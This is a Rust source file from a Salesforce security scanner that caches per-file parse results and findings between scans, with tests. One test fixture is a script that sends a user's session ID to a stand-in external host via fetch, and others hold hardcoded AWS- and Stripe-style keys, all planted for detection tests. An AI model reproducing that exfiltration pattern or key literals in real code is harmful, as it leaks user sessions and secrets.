//! The per-file cache: what the per-file pass made of each Apex and script file (its findings
//! and suppression directives, the tree the project keeps, the data-flow declarations), so that
//! a scan after an edit parses only the files that changed and re-runs only the cross-file work
//! (data flow, settings, OAuth apps, project checks) on the rest. Parsing is most of a scan's
//! time (bench/NOTES.md#per-file-cache).
//!
//! An entry is keyed by a hash of the file's path, its text and whether its tree is kept
//! whole (that depends on other files, see [`crate::engine::ScanKeep`]); it says whether the
//! tree was read whole, and serves a scan that reads it whole only if it was. Entries of one sfsec
//! build and configuration live in one signed file ([`Cache::files_entry`]), shared by every
//! command that scans with them (a pre-commit run's entries serve the next full scan). Each
//! entry is decoded when its file is met, on the worker that would have parsed it, and checked
//! before use: a tree must fit its text, declarations must point into it, findings must name
//! the file and fit it. A wrong entry is a miss.
//!
//! Metadata a lint reads and JSON are not kept: their documents are read by the cross-file
//! checks, and parsing them costs less than decoding would. A library script keeps the
//! results of its lexing, which the cross-file pass makes. A script
//! where a data flow may start keeps its results but not its tree, which the script analysis
//! parses again only when some Apex method returns a source.

use std::collections::{HashMap, HashSet};
use std::sync::OnceLock;

use serde::{Deserialize, Serialize};

use crate::dataflow::model::Decls;
use crate::diagnostics::finding::{FileId, Finding};
use crate::engine::cache::{Cache, Stored};
use crate::engine::suppress::Directive;
use crate::syntax::flat::FlatTree;
use crate::workspace::kind::FileKind;
use crate::workspace::project::{FieldRead, Memo, Parsed, Problem, Project, Recalled, SourceFile, Variant};

/// What the per-file pass gives for a file: its findings and directives, if it has either.
pub(crate) type Visited = Option<Box<(Vec<Finding>, Vec<Directive>)>>;

/// Bumped when [`Entry`] changes.
const FORMAT: u32 = 5;

type Key = [u8; 32];

#[derive(Serialize, Deserialize)]
enum Kept {
    /// [`FlatTree::to_bytes`].
    Apex(#[serde(with = "serde_bytes")] Vec<u8>),
    Checked,
    /// A library script: its results were made after parsing, by the cross-file pass's
    /// lexing ([`FileMemo::record_lexed`]).
    Lexed,
    Text,
    WellFormed,
    Failed,
}

#[derive(Serialize, Deserialize)]
struct Entry {
    /// The id the file had in the scan that stored this: findings and declarations name it.
    file: FileId,
    problem: Option<(String, usize, String)>,
    kept: Kept,
    findings: Vec<Stored>,
    directives: Vec<Directive>,
    decls: Option<Decls>,
    /// Whether the whole tree was read ([`crate::workspace::project::KeepPolicy::reads_whole`]).
    reads: bool,
    field_reads: Vec<FieldRead>,
}

/// [`Entry`] as written: borrowed where it can be (the same encoding).
#[derive(Serialize)]
struct EntryOut<'a> {
    file: FileId,
    problem: Option<(&'a str, usize, &'a str)>,
    kept: Kept,
    findings: Vec<Stored>,
    directives: &'a [Directive],
    decls: Option<&'a Decls>,
    reads: bool,
    field_reads: &'a [FieldRead],
}

#[derive(Serialize, Deserialize, Default)]
struct Pack {
    format: u32,
    entries: Vec<PackEntry>,
}

/// One file's entry in the pack.
#[derive(Serialize, Deserialize)]
struct PackEntry {
    key: Key,
    path: String,
    /// An encoded [`Entry`], decoded when its file is met.
    #[serde(with = "serde_bytes")]
    entry: Vec<u8>,
}

/// Where this scan's entry for a file comes from.
enum Slot {
    /// The stored pack's entry, by index.
    Old(usize),
    /// Made by this scan.
    New(Key, Vec<u8>),
}

/// The per-file cache of one scan: the stored entries, and each file's as the scan goes.
pub(crate) struct FileMemo {
    /// The base's entries, then the delta's (see [`FileMemo::save`]).
    old: Pack,
    /// How many of `old`'s entries come from the base.
    base_len: usize,
    index: HashMap<Key, usize>,
    slots: Vec<OnceLock<Slot>>,
    /// Each file's key, and whether the scan reads its whole tree, once [`Memo::recall`] has
    /// made it.
    keys: Vec<OnceLock<(Key, bool)>>,
    /// Each file's text's hash.
    texts: Vec<Key>,
}

impl FileMemo {
    /// The entries stored for this build and configuration (none if there are none or they
    /// cannot be read), for a scan of files whose texts hash to `texts` (blake3, by file id).
    pub(crate) fn load(cache: &Cache, texts: Vec<Key>) -> Self {
        let files = texts.len();
        let read = |path: &std::path::Path| {
            cache
                .read_signed(path)
                .and_then(|bytes| postcard::from_bytes::<Pack>(&bytes).ok())
                .filter(|p| p.format == FORMAT)
                .unwrap_or_default()
        };
        let (base, delta) = cache.files_entries();
        let mut old = read(&base);
        let base_len = old.entries.len();
        old.entries.extend(read(&delta).entries);
        let index = old.entries.iter().enumerate().map(|(i, e)| (e.key, i)).collect();
        FileMemo {
            old,
            base_len,
            index,
            slots: std::iter::repeat_with(OnceLock::new).take(files).collect(),
            keys: std::iter::repeat_with(OnceLock::new).take(files).collect(),
            texts,
        }
    }

    /// Stores the entries of this scan's files and, when it read only some files of the
    /// project (`partial`, a pre-commit run), the stored entries of the files it did not read;
    /// the others are dropped. New entries go to the delta file, so that an edit writes little;
    /// the base is rewritten with the delta merged in once the delta and the base's dropped
    /// entries reach a quarter of it. Nothing is written when nothing changed; errors are
    /// ignored.
    pub(crate) fn save(self, cache: &Cache, project: &Project, partial: bool) {
        let FileMemo {
            old, base_len, slots, ..
        } = self;
        let mut live = vec![false; old.entries.len()];
        let mut fresh = Vec::new();
        for (slot, file) in slots.into_iter().zip(&project.files) {
            match slot.into_inner() {
                Some(Slot::Old(i)) => {
                    if let Some(l) = live.get_mut(i) {
                        *l = true;
                    }
                }
                Some(Slot::New(key, entry)) => fresh.push(PackEntry {
                    key,
                    path: file.rel.clone(),
                    entry,
                }),
                None => {}
            }
        }
        if partial {
            let seen: HashSet<&str> = project.files.iter().map(|f| f.rel.as_str()).collect();
            for (l, e) in live.iter_mut().zip(&old.entries) {
                *l |= !seen.contains(e.path.as_str());
            }
        }
        let size = |e: &PackEntry| e.entry.len() + e.path.len() + 40;
        let base_bytes: usize = old.entries[..base_len].iter().map(size).sum();
        let base_dropped: usize = old.entries[..base_len]
            .iter()
            .zip(&live)
            .filter(|(_, l)| !**l)
            .map(|(e, _)| size(e))
            .sum();
        let delta_dropped = live[base_len..].iter().any(|l| !l);
        let mut entries: Vec<PackEntry> = Vec::new();
        let mut base = Vec::new();
        for (i, (e, l)) in old.entries.into_iter().zip(live).enumerate() {
            match (l, i < base_len) {
                (true, true) => base.push(e),
                (true, false) => entries.push(e),
                (false, _) => {}
            }
        }
        let changed = !fresh.is_empty() || delta_dropped;
        entries.extend(fresh);
        let delta_bytes: usize = entries.iter().map(size).sum();
        let (base_path, delta_path) = cache.files_entries();
        let write = |path: &std::path::Path, mut entries: Vec<PackEntry>| {
            // Path order, so that the same files give the same bytes.
            entries.sort_by(|a, b| a.path.cmp(&b.path).then(a.key.cmp(&b.key)));
            let pack = Pack {
                format: FORMAT,
                entries,
            };
            postcard::to_stdvec(&pack).is_ok_and(|bytes| cache.write_signed(path, &bytes).is_ok())
        };
        if (base_dropped + delta_bytes) * 4 > base_bytes {
            base.extend(entries);
            if write(&base_path, base) {
                let _ = std::fs::remove_file(&delta_path);
            }
        } else if changed {
            if entries.is_empty() {
                let _ = std::fs::remove_file(&delta_path);
            } else {
                write(&delta_path, entries);
            }
        }
    }

    /// The key of file `id` of this scan: its path, whether its tree is kept whole, and its
    /// text's hash. Not whether it is read whole: an entry that has the fields read serves a
    /// scan that does not read them (see [`decode`]), and a pre-commit run, which sees few
    /// settings, finds the entries of the full scans.
    fn key(&self, id: FileId, file: &SourceFile, variant: Variant) -> Option<Key> {
        let mut h = blake3::Hasher::new();
        h.update(file.rel.as_bytes());
        h.update(&[0, u8::from(variant.whole)]);
        h.update(self.texts.get(id)?);
        Some(*h.finalize().as_bytes())
    }

    /// Whether a file's results may be kept here: Apex, scripts (a library's results are
    /// stored by [`FileMemo::record_lexed`]), and metadata of no type a lint reads (most of it
    /// only checked to be well-formed: translations, layouts, class companions).
    fn keeps(file: &SourceFile) -> bool {
        match file.kind {
            FileKind::Apex | FileKind::JavaScript => true,
            FileKind::Metadata(_) => file.is_unread_metadata(),
            _ => false,
        }
    }
}

/// `entry`, stored for a file of this text, as this scan's file `id` that it reads whole or
/// not (`reads`); `None` if any part of it does not fit, or if it was not read whole and is
/// asked to be.
fn decode(entry: Entry, id: FileId, file: &SourceFile, reads: bool) -> Option<Recalled<Visited, Decls>> {
    if reads && !entry.reads {
        return None;
    }
    let stored = entry.file;
    let (parsed, nodes) = match entry.kept {
        Kept::Apex(bytes) => {
            let tree = FlatTree::from_bytes(&bytes, file.text.len())?;
            let nodes = tree.len();
            (Parsed::Apex(tree), nodes)
        }
        Kept::Checked => (Parsed::Checked, 0),
        Kept::Lexed => (Parsed::Lexed, 0),
        Kept::Text => (Parsed::Text, 0),
        Kept::WellFormed => (Parsed::WellFormed, 0),
        Kept::Failed => (Parsed::Failed, 0),
    };
    let problem: Problem = match entry.problem {
        Some((rule, offset, message)) if offset <= file.text.len() => {
            Some((crate::diagnostics::rules::get(&rule)?.id, offset, message))
        }
        Some(_) => return None,
        None => None,
    };
    let mut findings = entry
        .findings
        .into_iter()
        .map(Stored::into_finding)
        .collect::<Option<Vec<Finding>>>()?;
    let in_file = |f: &Finding| {
        f.file == stored
            && f.labels.iter().chain(&f.flow).all(|l| l.file == stored)
            && f.suppression.as_ref().is_none_or(|s| s.file == stored)
    };
    if !findings.iter().all(in_file) {
        return None;
    }
    let fits = |r: &std::ops::Range<usize>| r.start <= r.end && file.text.get(r.clone()).is_some();
    for f in &mut findings {
        f.file = id;
        for l in f.labels.iter_mut().chain(f.flow.iter_mut()) {
            l.file = id;
            if !fits(&l.span) {
                return None;
            }
        }
        if let Some(s) = &mut f.suppression {
            s.file = id;
            if !fits(&s.span) {
                return None;
            }
        }
        if !fits(&f.span) || f.secret.as_ref().is_some_and(|s| !fits(s)) {
            return None;
        }
    }
    let mut directives = entry.directives;
    for d in &mut directives {
        if d.file != stored || !fits(&d.comment) || d.target.start > d.target.end || d.target.end > file.text.len() {
            return None;
        }
        d.file = id;
    }
    let declared = match entry.decls {
        Some(d) => Some(d.moved_to(id, nodes)?),
        None => None,
    };
    if !entry.field_reads.iter().all(|r| fits(&r.span)) {
        return None;
    }
    let visited = (!findings.is_empty() || !directives.is_empty()).then(|| Box::new((findings, directives)));
    Some(Recalled {
        parsed,
        // As a scan that does not read the whole tree leaves it.
        field_reads: if reads { entry.field_reads } else { Vec::new() },
        problem,
        visited: Some(visited),
        declared,
    })
}

impl FileMemo {
    /// Stores the findings and directives of a library script (lexed, see
    /// [`crate::syntax::js_lex`]), which the cross-file pass made, unless it was recalled.
    pub(crate) fn record_lexed(&self, id: FileId, file: &SourceFile, findings: &[Finding], directives: &[Directive]) {
        if matches!(file.parsed, Parsed::Lexed) {
            self.store(id, file, &None, Kept::Lexed, (findings, directives), None);
        }
    }

    /// Sets file `id`'s slot to a new entry, if [`Memo::recall`] gave it a key and left it empty.
    fn store(
        &self,
        id: FileId,
        file: &SourceFile,
        problem: &Problem,
        kept: Kept,
        (findings, directives): (&[Finding], &[Directive]),
        declared: Option<&Decls>,
    ) {
        let key = self.keys.get(id).and_then(OnceLock::get).copied();
        let entry = EntryOut {
            file: id,
            reads: key.is_some_and(|(_, reads)| reads),
            problem: problem.as_ref().map(|(r, o, m)| (*r, *o, m.as_str())),
            kept,
            findings: findings.iter().map(Stored::from_finding).collect(),
            directives,
            decls: declared,
            field_reads: &file.field_reads,
        };
        if let (Some(slot), Some((key, _)), Ok(bytes)) = (self.slots.get(id), key, postcard::to_stdvec(&entry)) {
            let _ = slot.set(Slot::New(key, bytes));
        }
    }
}

impl Memo<Visited, Decls> for FileMemo {
    fn recall(&self, id: FileId, file: &SourceFile, variant: Variant) -> Option<Recalled<Visited, Decls>> {
        if !Self::keeps(file) {
            return None;
        }
        let key = self.key(id, file, variant)?;
        if let Some(k) = self.keys.get(id) {
            let _ = k.set((key, variant.reads));
        }
        let found = self.index.get(&key).copied().and_then(|i| {
            let entry: Entry = postcard::from_bytes(&self.old.entries[i].entry).ok()?;
            Some((i, decode(entry, id, file, variant.reads)?))
        });
        match found {
            Some((i, recalled)) => {
                let _ = self.slots.get(id)?.set(Slot::Old(i));
                Some(recalled)
            }
            None => None,
        }
    }

    fn record(
        &self,
        id: FileId,
        file: &SourceFile,
        problem: &Problem,
        visited: Option<&Visited>,
        declared: Option<&Decls>,
    ) {
        if !Self::keeps(file) {
            return;
        }
        let kept = match &file.parsed {
            Parsed::Apex(tree) => Kept::Apex(tree.to_bytes()),
            // A script where a data flow may start: the script analysis parses it again if it
            // needs it (see [`crate::dataflow::js::analyze`]).
            Parsed::Checked | Parsed::Js(_) => Kept::Checked,
            Parsed::Text => Kept::Text,
            Parsed::WellFormed => Kept::WellFormed,
            Parsed::Failed => Kept::Failed,
            // A document with comments (suppressions): its checks read it. A library's
            // results come later ([`FileMemo::record_lexed`]).
            Parsed::Xml(_) | Parsed::Json(_) | Parsed::Lexed => return,
        };
        let (findings, directives) = match visited.and_then(|v| v.as_deref()) {
            Some((f, d)) => (f.as_slice(), d.as_slice()),
            None => (&[][..], &[][..]),
        };
        self.store(id, file, problem, kept, (findings, directives), declared);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::{ScanRequest, cache, flow_sources, lint, scan};
    use crate::workspace::config::Config;
    use crate::workspace::{discovery, project};

    const CLASSES: &str = "force-app/main/default/classes";

    /// A scan through the per-file cache of `cache`; gives the findings and how many files it
    /// took from the cache and how many it parsed and stored.
    fn scan_with(req: &ScanRequest, c: &Cache, partial: bool) -> (Vec<Finding>, usize, usize) {
        let root = discovery::find_root(&req.paths, &req.cwd);
        let found = discovery::discover(&root, &req.paths, &req.cwd, &req.config, &flow_sources(&req.config))
            .expect("discover");
        let unparsed = project::read(found);
        let (_, texts) = cache::fingerprint(&unparsed);
        let memo = FileMemo::load(c, texts);
        let scan = lint(unparsed, &req.config, req.now, Some(&memo));
        let count = |old: bool| {
            memo.slots
                .iter()
                .filter(|s| {
                    matches!(
                        (s.get(), old),
                        (Some(Slot::Old(_)), true) | (Some(Slot::New(..)), false)
                    )
                })
                .count()
        };
        let (recalled, stored) = (count(true), count(false));
        memo.save(c, &scan.project, partial);
        (scan.findings, recalled, stored)
    }

    /// A scan of the project at `root`, and a per-file cache there.
    fn whole_scan(root: &std::path::Path) -> (ScanRequest, Cache) {
        let req = ScanRequest {
            paths: Vec::new(),
            cwd: root.to_path_buf(),
            config: Config::default(),
            now: 0,
        };
        (req, Cache::new(root.join(cache::DIR), root, &[], "memo test"))
    }

    #[test]
    fn after_an_edit_only_the_edited_file_is_parsed_and_the_findings_are_a_cold_scans() {
        let session = "public class A {\n  @AuraEnabled\n  public static String s() { return B.sid(); }\n}\n";
        let helper = "public class B {\n  public static String sid() { return UserInfo.getSessionId(); }\n}\n";
        let project = crate::testing::TempProject::new(&[
            (
                "sfdx-project.json",
                r#"{"packageDirectories":[{"path":"force-app","default":true}]}"#,
            ),
            (&format!("{CLASSES}/A.cls"), session),
            (&format!("{CLASSES}/B.cls"), helper),
            (&format!("{CLASSES}/C.cls"), "public class C { String k = 'AKIAIOSFODNN7EXAMPLE'; }\n"),
            // Companion metadata no rule reads (a class's is read: its API version matters).
            (
                "force-app/main/default/triggers/T.trigger-meta.xml",
                "<ApexTrigger><status>Active</status></ApexTrigger>\n",
            ),
            (
                "force-app/main/default/lwc/w/w.js",
                "import s from '@salesforce/apex/A.s';\nexport default class W { async go() { fetch('https://x.example/?' + await s()); } }\n",
            ),
            // A library (its banner says so): lexed after parsing, its results stored then.
            (
                "force-app/main/default/staticresources/vendor/lib.js",
                "/*! lib */\nconst stripeKey = 'sk_live_51HqLyjWDarjtT1zdp7dcQ9';\n",
            ),
        ])
        .expect("project");
        let root = project.path().to_path_buf();
        let (req, c) = whole_scan(&root);
        let (first, recalled, stored) = scan_with(&req, &c, false);
        assert_eq!((recalled, stored), (0, 6), "a cold cache parses every file it may keep");
        assert_eq!(first, scan(&req).expect("scan").findings);
        assert!(first.iter().any(|f| f.rule == "session-id-to-external"), "{first:?}");
        let in_library = |fs: &[Finding]| {
            fs.iter()
                .filter(|f| f.rule == "hardcoded-secret" && f.message.contains("Stripe"))
                .count()
        };
        assert_eq!(in_library(&first), 1, "{first:?}");

        // The helper stops returning the session ID: the flow through A and the script ends,
        // though neither A nor the script changed.
        std::fs::write(
            root.join(CLASSES).join("B.cls"),
            helper.replace("UserInfo.getSessionId()", "'x'"),
        )
        .expect("edit");
        let (second, recalled, stored) = scan_with(&req, &c, false);
        assert_eq!((recalled, stored), (5, 1));
        assert_eq!(second, scan(&req).expect("scan").findings);
        assert_eq!(in_library(&second), 1, "the library's finding is recalled: {second:?}");
        assert!(!second.iter().any(|f| f.rule.starts_with("session-")), "{second:?}");

        // And back: the stored entry of the first text serves again, the flows come back.
        std::fs::write(root.join(CLASSES).join("B.cls"), helper).expect("edit");
        let (third, recalled, _) = scan_with(&req, &c, false);
        assert_eq!(third, first);
        assert!(recalled >= 5, "{recalled}");
    }

    /// A pre-commit run sees few settings, so it does not read a class's whole tree for the
    /// fields it reads; the full scan's entry, which has them, serves it all the same.
    #[test]
    fn an_entry_read_whole_serves_a_run_that_does_not_read_it() {
        let object = "<?xml version=\"1.0\"?>\n<CustomObject xmlns=\"http://soap.sforce.com/2006/04/metadata\">\n    <customSettingsType>Hierarchy</customSettingsType>\n    <visibility>Public</visibility>\n</CustomObject>\n";
        let reader =
            "public class Reader {\n  public static String k() { return Acme__c.getOrgDefaults().Key__c; }\n}\n";
        let project = crate::testing::TempProject::new(&[
            (
                "sfdx-project.json",
                r#"{"packageDirectories":[{"path":"force-app","default":true}]}"#,
            ),
            ("force-app/main/default/objects/Acme__c/Acme__c.object-meta.xml", object),
            (&format!("{CLASSES}/Reader.cls"), reader),
        ])
        .expect("project");
        let root = project.path().to_path_buf();
        let (mut req, c) = whole_scan(&root);
        let (_, recalled, stored) = scan_with(&req, &c, false);
        assert_eq!((recalled, stored), (0, 1));
        req.paths = vec![root.join(CLASSES).join("Reader.cls")];
        let (given, recalled, stored) = scan_with(&req, &c, true);
        assert_eq!((recalled, stored), (1, 0), "the class is recalled, not parsed");
        assert_eq!(given, scan(&req).expect("scan").findings);
    }
}
